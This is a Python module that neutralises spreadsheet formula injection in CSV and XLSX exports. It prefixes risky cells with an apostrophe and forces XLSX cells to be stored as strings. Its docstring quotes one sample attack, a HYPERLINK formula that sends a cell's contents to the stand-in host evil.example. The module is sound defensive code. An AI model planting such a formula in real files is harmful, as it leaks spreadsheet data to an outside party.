"""Cells of the spreadsheets Sajag writes (CSV and XLSX): text a person typed stays text.

A spreadsheet reads a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula, so a cell of
an uploaded file such as ``=HYPERLINK("http://evil.example/?x="&A1,"click me")`` would come back
live in the error report, and a colleague who opens it would run it. In a CSV such text gets a
leading apostrophe, which spreadsheets read as "this is text" and hide; in an XLSX the cell is
stored as a string, never a formula, so the text reads back unchanged. Numbers stay numbers.
Plain Python: no Django, no openpyxl import (the sheet is passed in).

>>> safe_text("=1+1"), safe_text("  @SUM(A1)"), safe_text("-5"), safe_text(-5), safe_text("Jaipur")
("'=1+1", "'  @SUM(A1)", '-5', -5, 'Jaipur')
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@")
CONTROL_START = ("\t", "\r")
# A number written as text ("-5", "+919829012345") calls nothing: it stays as it is, so a
# negative count or a phone number reads back unchanged when the file is uploaded again.
# The characters XML 1.0 cannot hold: the same set as openpyxl's ILLEGAL_CHARACTERS_RE.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula (also after leading spaces)."""
    if text.startswith(CONTROL_START):
        return True
    stripped = text.strip()
    return stripped.startswith(FORMULA_START) and not _NUMBER.fullmatch(stripped)


def safe_text(value: Any) -> Any:
    """A CSV cell's value: formula-like text with a leading apostrophe; anything else as it is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """A CSV row with every cell through ``safe_text``."""
    return [safe_text(value) for value in row]


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """``sheet.append(row)`` on an openpyxl worksheet, every string stored as text.

    openpyxl stores a string beginning with ``=`` as a formula (and ``#N/A`` as an error value);
    forcing the string type keeps the text exactly as typed, with no apostrophe to strip on
    re-upload. Control characters an XLSX cannot hold (openpyxl refuses the whole row) become
    U+FFFD, the replacement character."""
    values = [_CONTROL.sub("\ufffd", v) if isinstance(v, str) else v for v in row]
    sheet.append(values)
    line = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            sheet.cell(line, column).data_type = "s"
